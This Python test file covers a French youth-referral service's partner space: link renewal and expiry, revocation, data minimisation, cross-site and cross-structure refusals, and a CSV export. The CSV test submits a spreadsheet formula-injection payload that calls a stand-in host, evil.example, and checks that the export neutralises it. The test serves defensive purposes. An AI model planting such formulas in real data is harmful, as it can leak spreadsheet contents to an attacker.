"""The partners' space (SPEC §4c): one link per structure in every referral email, the structure's
referrals of every department, answering from the list with the referral page's rules, the CSV
export, and the link's life: renewed by each email, expired 90 days after the last one (410),
revoked by an operator (404), never showing more of a youth than the referral's own page."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest

from chalicelib import jobs, tokens
from chalicelib.delivery import dispatch
from chalicelib.departments import service as departments
from chalicelib.domain import clock
from chalicelib.domain.youth import initial
from chalicelib.messages.filters import date_long_fr
from chalicelib.partners import space
from chalicelib.reporting import params
from chalicelib.store import partners as partner_store
from chalicelib.store.models import Message, PartnerSpace, Referral
from tests.support import integration as s
from tests.support import partners as p
from tests.support.aws_requests import counted

ROOT = Path(__file__).resolve().parents[2]
ML_EMAIL = "accueil@ml-lille.example.fr"
BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"


def today() -> object:
    return clock.local_today("59", clock.clock_from(None, None))


@pytest.fixture
def refer(client):
    """``refer(code, rows, day)``: the department sends its roster and the jobs run on ``day``."""
    keys: dict[str, str] = {}
    s.load_directory(client, s.operator_key())

    def run(code: str, rows: list[dict], day) -> str:
        if code not in keys:
            keys[code] = s.department_key(code, name=f"Département {code}")
        answer = client.http.put(
            f"/departments/{code}/roster", body=s.roster_csv(rows), headers=s.auth(keys[code])
        )
        assert answer.status_code == 200, answer.json_body
        jobs.run_all(day if isinstance(day, datetime) else clock.clock_from(day, None))
        return keys[code]

    return run


@pytest.fixture
def two_departments(refer) -> dict:
    """Lille's mission locale receives a youth of the Nord (59) and one of the Pas-de-Calais (62)
    living in Lille; the Nord's youth gave consent to share its phone. Roubaix's mission locale
    receives another youth of the Nord."""
    day = today()
    nord = s.youth("N01", s.birth_for(day, years=17, days=3), consentement="oui",
                   telephone="06 12 34 56 78")  # fmt: skip
    roubaix = s.youth("R01", s.birth_for(day, years=17, days=4), commune="59512")
    pas_de_calais = s.youth("P01", s.birth_for(day, years=17, days=5))
    later = clock.clock_from(day, None) + timedelta(hours=1)  # the index's order: newest first
    keys = {"59": refer("59", [nord, roubaix], day), "62": refer("62", [pas_de_calais], later)}
    emails = p.emails_to(s.sent(), ML_EMAIL)
    assert len(emails) == 2
    return {"emails": emails, "rows": {"59": nord, "62": pas_de_calais}, "keys": keys}


def referral_of(code: str, partner_id: str = "ML59A") -> Referral:
    [found] = [
        r
        for r in Referral.scan()
        if r.department == code and r.kind == "mission_locale" and r.partner_id == partner_id
    ]
    return found


def test_every_referral_email_carries_the_same_space_link_besides_its_own(two_departments):
    first, second = two_departments["emails"]
    assert p.space_link(first) == p.space_link(second)
    assert first["ack_url"] != second["ack_url"]  # the referral's own link stays
    assert "/partenaires/" in first["html"] and "/ack/" in first["html"]


def test_the_space_lists_the_structures_referrals_of_both_departments(client, two_departments):
    page = client.http.get(p.space_path(two_departments["emails"][0]))
    assert page.status_code == 200
    html = page.body.decode()
    assert "Orientations reçues par Mission locale de Lille" in html
    for code, row in two_departments["rows"].items():
        assert f"{row['prenom']} {initial(row['nom'])}" in html
        assert f"Département {code}" in html
    assert "En attente de votre réponse (2)" in html
    for name in ("Content-Security-Policy", "Referrer-Policy", "X-Frame-Options"):
        assert name in page.headers


def test_an_answer_from_the_list_is_recorded_and_the_department_sees_it(client, two_departments):
    path = p.space_path(two_departments["emails"][0])
    referral = referral_of("62")
    fields = {"reponse": "accepte", "date_rdv": s.RDV.isoformat(), "conseiller_nom": "Léo Petit"}
    done = client.http.post(
        f"{path}/orientations/{referral.referral_id}", body=urlencode(fields).encode(),
        headers=p.FORM,
    )  # fmt: skip
    assert done.status_code == 200, done.body.decode()
    assert "Merci, votre réponse est enregistrée" in done.body.decode()
    # the department sees the answer on the youth
    key = two_departments["keys"]["62"]
    youth = client.http.get(
        "/departments/62/youths/P01", headers={"Authorization": f"Bearer {key}"}
    )
    assert youth.status_code == 200, youth.json_body
    [seen] = [r for r in youth.json_body["referrals"] if r["kind"] == "mission_locale"]
    assert seen["status"] == "acknowledged"
    # and the space now shows it accepted, with the appointment date
    html = client.http.get(path).body.decode()
    assert "Acceptées (1)" in html and "En attente de votre réponse (1)" in html
    assert date_long_fr(s.RDV) in html


def test_an_answer_breaking_the_referral_pages_rules_is_refused_with_the_form(
    client, two_departments
):
    path = p.space_path(two_departments["emails"][0])
    referral = referral_of("59")
    refused = client.http.post(
        f"{path}/orientations/{referral.referral_id}",
        body=urlencode({"reponse": "accepte", "commentaire": "x" * 501}).encode(),
        headers=p.FORM,
    )
    assert refused.status_code == 400
    assert "Commentaire trop long" in refused.body.decode()
    assert Referral.get(referral.referral_id).answer is None


def test_a_form_from_another_site_is_refused(client, two_departments):
    path = p.space_path(two_departments["emails"][0])
    referral = referral_of("59")
    refused = client.http.post(
        f"{path}/orientations/{referral.referral_id}",
        body=urlencode({"reponse": "refuse"}).encode(),
        headers={**p.FORM, "Origin": "https://autre-site.example"},
    )
    assert refused.status_code == 403
    assert Referral.get(referral.referral_id).answer is None


def test_another_structures_referral_cannot_be_answered_through_a_space(client, two_departments):
    path = p.space_path(two_departments["emails"][0])
    roubaix = referral_of("59", partner_id="ML59B")
    answer = client.http.post(
        f"{path}/orientations/{roubaix.referral_id}",
        body=urlencode({"reponse": "refuse"}).encode(),
        headers=p.FORM,
    )
    assert answer.status_code == 404
    assert Referral.get(roubaix.referral_id).answer is None
    assert "R01" not in client.http.get(path).body.decode()


def test_the_space_shows_no_more_of_a_youth_than_the_referrals_own_page(client, two_departments):
    html = client.http.get(p.space_path(two_departments["emails"][0])).body.decode()
    own = client.http.get(urlsplit(referral_ack_url("59")).path).body.decode()
    row = two_departments["rows"]["59"]
    assert "06 12 34 56 78" in own and "06 12 34 56 78" in html  # shared with consent
    for value in (row["nom"], row["id_externe"], row["date_naissance"].strftime("%d/%m/%Y"),
                  row["date_naissance"].isoformat()):  # fmt: skip
        assert value not in own and value not in html
    for value in (two_departments["rows"]["62"]["nom"], "P01"):
        assert value not in html


def referral_ack_url(code: str) -> str:
    return tokens.ack_url(referral_of(code).referral_id)


def test_the_csv_export_lists_every_referral_spreadsheet_safe(client, two_departments):
    path = p.space_path(two_departments["emails"][0])
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
    answered = client.http.post(
        f"{path}/orientations/{referral_of('59').referral_id}",
        body=urlencode({"reponse": "accepte", "conseiller_nom": formula}).encode(),
        headers=p.FORM,
    )
    assert answered.status_code == 200
    export = client.http.get(f"{path}/orientations.csv", headers={"Accept": BROWSER_ACCEPT})
    assert export.status_code == 200
    assert export.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in export.headers["Content-Disposition"]
    rows = list(
        csv.DictReader(io.StringIO(export.body.decode("utf-8").lstrip("\ufeff")), delimiter=";")
    )
    assert {row["departement"] for row in rows} == {"Département 59 (59)", "Département 62 (62)"}
    [accepted] = [row for row in rows if row["etat"] == "Acceptée"]
    assert accepted["conseiller_nom"] == "'" + formula  # text, never a formula
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert (
        "06 12 34 56 78" not in export.body.decode() and "+33612345678" not in export.body.decode()
    )


def test_a_tampered_or_unknown_link_gets_the_ack_pages_404(client, two_departments):
    path = p.space_path(two_departments["emails"][0])
    tampered = path[:-1] + ("A" if path[-1] != "A" else "B")
    for wrong in (tampered, "/partenaires/court", path + "x"):
        page = client.http.get(wrong)
        assert page.status_code == 404
        assert "Lien introuvable" in page.body.decode()


def test_each_email_renews_the_link_which_expires_90_days_after_the_last_one(client, refer):
    day = today()
    refer("59", [s.youth("OLD1", s.birth_for(day, years=17, days=3))], day)
    [first] = p.emails_to(s.sent(), ML_EMAIL)
    path = p.space_path(first)
    token = path.rsplit("/", 1)[1]
    later = clock.clock_from(day + timedelta(days=91), None)
    # 91 days after the only email: the link has expired, the page says whom to ask
    expired = space.view(token, None, later)
    assert expired.status == 410
    assert "Ce lien a expiré" in expired.html and "ase@cd59.example.fr" in expired.html
    # a new referral email, 30 days on, renews the same link for 90 days from then
    rows = [
        s.youth("OLD1", s.birth_for(day, years=17, days=3)),
        s.youth("NEW1", s.birth_for(day, years=17, days=33)),
    ]
    refer("59", rows, day + timedelta(days=30))
    referral_emails = [e for e in p.emails_to(s.sent(), ML_EMAIL) if "/partenaires/" in e["text"]]
    assert len(referral_emails) == 2
    assert p.space_path(referral_emails[-1]) == path
    assert space.view(token, None, later).status == 200
    assert space.view(token, None, later + timedelta(days=30)).status == 410
    [stored] = list(PartnerSpace.scan())
    assert stored.token_hash == tokens.hash_token(token)  # the token itself is never stored
    assert token not in str(stored.attribute_values)


def test_an_operator_revokes_a_link_with_the_cli_and_the_next_email_brings_a_new_one(
    client, aws, refer
):
    day = today()
    refer("59", [s.youth("REV1", s.birth_for(day, years=17, days=3))], day)
    path = p.space_path(p.emails_to(s.sent(), ML_EMAIL)[0])
    result = subprocess.run(
        [sys.executable, "-m", "chalicelib.cli", "partner", "revoke", "ML59A"],
        cwd=ROOT, env={"PATH": "", "AWS_ENDPOINT_URL": aws.url, "HOME": "/nonexistent"},
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "mission_locale#ML59A" in result.stdout
    assert client.http.get(path).status_code == 404
    rows = [s.youth("REV1", s.birth_for(day, years=17, days=3)),
            s.youth("REV2", s.birth_for(day, years=17, days=4))]  # fmt: skip
    refer("59", rows, day + timedelta(days=1))
    renewed = p.space_path(p.emails_to(s.sent(), ML_EMAIL)[-1])
    assert renewed != path
    assert client.http.get(renewed).status_code == 200
    assert client.http.get(path).status_code == 404


def test_reading_the_space_is_three_dynamodb_requests(client, two_departments):
    path = p.space_path(two_departments["emails"][0])
    with counted() as calls:
        assert client.http.get(path).status_code == 200
    dynamodb = {name: n for name, n in calls.items() if name.startswith("dynamodb.")}
    assert dynamodb == {"dynamodb.Query": 2, "dynamodb.BatchGetItem": 1}


def test_the_list_is_read_a_page_at_a_time(client, two_departments):
    first, cursor = partner_store.referrals_page("ML59A", size=1, cursor=None)
    assert cursor is not None
    second, after = partner_store.referrals_page("ML59A", size=1, cursor=cursor)
    assert [first[0].department, second[0].department] == ["62", "59"]  # newest first
    if after is not None:  # DynamoDB may give a key when a page ends on the last item
        assert partner_store.referrals_page("ML59A", size=1, cursor=after)[0] == []
    # a page link naming another structure's index is refused
    path = p.space_path(two_departments["emails"][0])
    forged = params.encode_cursor({**cursor, "partner_id": {"S": "ML59B"}})
    refused = client.http.get(f"{path}?page={forged}")
    assert refused.status_code == 400
    assert "Ce lien de page n&#39;est pas valide" in refused.body.decode()


def test_an_erased_youth_leaves_the_space(client, two_departments):
    path = p.space_path(two_departments["emails"][0])
    key = two_departments["keys"]["62"]
    erased = client.http.delete(
        "/departments/62/youths/P01", headers={"Authorization": f"Bearer {key}"}
    )
    assert erased.status_code == 204
    html = client.http.get(path).body.decode()
    assert "Département 62" not in html
    assert "En attente de votre réponse (1)" in html


def test_revoking_an_unknown_structure_is_a_one_line_error(aws):
    result = subprocess.run(
        [sys.executable, "-m", "chalicelib.cli", "partner", "revoke", "ML00X"],
        cwd=ROOT, env={"PATH": "", "AWS_ENDPOINT_URL": aws.url, "HOME": "/nonexistent"},
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "erreur : aucun espace partenaire actif pour « ML00X »" in result.stderr


def test_sending_a_referral_email_renews_the_space_within_three_dynamodb_requests(client):
    day = today()
    now = clock.clock_from(day, None)
    s.load_directory(client, s.operator_key())
    key = s.department_key("59")
    rows = [s.youth("SND1", s.birth_for(day, years=17, days=3))]
    client.http.put("/departments/59/roster", body=s.roster_csv(rows), headers=s.auth(key))
    jobs.daily_scan(now)
    [message] = [m for m in Message.scan() if m.purpose == "referral"]
    department = departments.get("59")
    tokens.token_for("warm-up")  # the key is read once per process, not per send
    with counted() as calls:
        assert dispatch.send_one(department, message, now) == "sent"
    dynamodb = {name: n for name, n in calls.items() if name.startswith("dynamodb.")}
    # the claim, the space's renewal, the send's transaction (SPEC §10: at most 3)
    assert dynamodb == {"dynamodb.UpdateItem": 2, "dynamodb.TransactWriteItems": 1}, calls
    [stored] = list(PartnerSpace.scan())
    assert stored.partner_key == "mission_locale#ML59A"
    assert stored.renewed_at.startswith(now.date().isoformat())


def test_a_referral_past_its_own_answer_delay_is_shown_without_its_form(client, two_departments):
    token = p.space_path(two_departments["emails"][0]).rsplit("/", 1)[1]
    referral = referral_of("59")
    later = clock.clock_from(today() + timedelta(days=61), None)  # ack_ttl_days: 60
    listed = space.view(token, None, later)
    assert listed.status == 200  # the space itself is valid 90 days
    assert "Le délai pour répondre à cette orientation est dépassé" in listed.html
    assert 'action="/partenaires/' not in listed.html
    late = space.answer(token, referral.referral_id, {"reponse": "refuse"}, later, same_origin=True)
    assert late.status == 410
    assert Referral.get(referral.referral_id).answer is None


def test_a_referral_of_the_space_opens_on_its_own_page_posting_to_the_space(
    client, two_departments
):
    path = p.space_path(two_departments["emails"][0])
    own = f"{path}/orientations/{referral_of('62').referral_id}"
    page = client.http.get(own)
    assert page.status_code == 200
    html = page.body.decode()
    assert f'action="{own}"' in html
    assert "Retour à la liste de vos orientations" in html
    other = client.http.get(
        f"{path}/orientations/{referral_of('59', partner_id='ML59B').referral_id}"
    )
    assert other.status_code == 404
    assert client.http.get(f"{path}/orientations/pas-un-identifiant").status_code == 404
